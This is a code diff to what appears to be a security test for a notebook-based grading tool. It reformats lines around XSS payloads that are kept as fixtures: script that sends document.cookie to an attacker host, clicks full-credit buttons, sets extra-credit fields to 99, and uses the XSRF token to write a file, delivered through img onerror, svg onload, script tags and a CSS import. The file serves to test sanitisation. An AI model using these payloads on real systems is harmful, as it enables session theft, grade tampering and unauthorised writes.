@@ -38,7 +38,8 @@ PAYLOAD = ("(function(){window.__pwned=(window.__pwned||0)+1;"
            "try{top.__pwned=(top.__pwned||0)+1}catch(e){}"
            f"fetch('http://{ATTACKER}/steal?c='+encodeURIComponent(document.cookie)).catch(function(){{}});"
            "document.querySelectorAll('.full-credit').forEach(function(b){b.click()});"
-           "document.querySelectorAll('input.extra-credit').forEach(function(i){i.value=99;i.dispatchEvent(new Event('change'))});"
+           "document.querySelectorAll('input.extra-credit').forEach(function(i){i.value=99;"
+           "i.dispatchEvent(new Event('change'))});"
            "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
            "fetch('/api/contents/pwned.txt',{method:'PUT',headers:{'X-XSRFToken':decodeURIComponent(x),"
            "'Content-Type':'application/json'},body:JSON.stringify({type:'file',format:'text',content:'pwned'})})"
@@ -53,7 +54,7 @@ BENIGN = r"""The gradient is $\partial L / \partial z_j = P_j - y_j$ and $a<b$ h
 **bold words** and `<script>` in code, shown as text.
 
 ![a figure](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==)
-"""
+"""  # noqa: E501 (a data: URI, on one line as a student would paste it)
 HOSTILE_MARKDOWN = BENIGN + f"""
 {MARKER_NOTE}
 
@@ -82,7 +83,7 @@ HOSTILE_MARKDOWN = BENIGN + f"""
 <style>@import url(http://{ATTACKER}/style.css);</style>
 
 <a id="file-link" href="evil.html">my notes</a>
-"""
+"""  # noqa: E501 (the payloads, one per line)
 _IMG = f'<img src=x onerror="{PAYLOAD}">'
 _SCRIPT = f"<script>{PAYLOAD}</script>"
 _SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PAYLOAD}">{_SCRIPT}</svg>'
